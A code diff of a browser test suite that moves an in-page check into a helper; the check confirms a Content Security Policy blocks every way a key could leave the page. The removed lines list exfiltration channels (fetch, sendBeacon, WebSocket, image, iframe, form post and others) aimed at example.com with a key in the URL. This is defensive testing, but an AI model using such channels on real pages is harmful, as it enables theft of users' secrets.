@@ -8,6 +8,7 @@ import { murmur2 } from '../../src/js.ts';
 import { panels } from '../../src/lab/panels/index.ts';
 import { keylane, root } from '../cli/run.ts';
 import { axeFindings, type Look, launchBrowser, openPage, tabTo } from './browser.ts';
+import { refusedWaysOut } from './in-page.ts';
 import { mixedText, NASTY_KEYS, sourceFile } from './sources.ts';
 
 const test = suite('lab');
@@ -103,35 +104,7 @@ test('a link with nonsense: said, and all else works', async () => {
 
 test('your keys never leave this page: no way out is open', async () => {
   const { page } = await openPage(browser, LAB);
-  const refused = await page.evaluate(async () => {
-    const broken: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
-    const away = 'https://example.com/?key=order-1001';
-    const tries: (() => unknown)[] = [
-      () => fetch(away),
-      () => navigator.sendBeacon(away),
-      () => new WebSocket('wss://example.com/'),
-      () => new EventSource(away),
-      () => Object.assign(new Image(), { src: away }),
-      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away })),
-      () => document.body.append(Object.assign(document.createElement('iframe'), { src: away })),
-      () => {
-        const form = Object.assign(document.createElement('form'), { action: away, method: 'post' });
-        document.body.append(form);
-        form.submit();
-      },
-      () => document.body.append(Object.assign(document.createElement('video'), { src: away })),
-    ];
-    for (const attempt of tries) {
-      try {
-        await attempt();
-      } catch {
-        // It is counted by its violation.
-      }
-    }
-    await new Promise(resolve => setTimeout(resolve, 300));
-    return broken;
-  });
+  const refused = await page.evaluate(refusedWaysOut);
   assert.equal([...new Set(refused)].sort(), [
     'connect-src',
     'form-action',
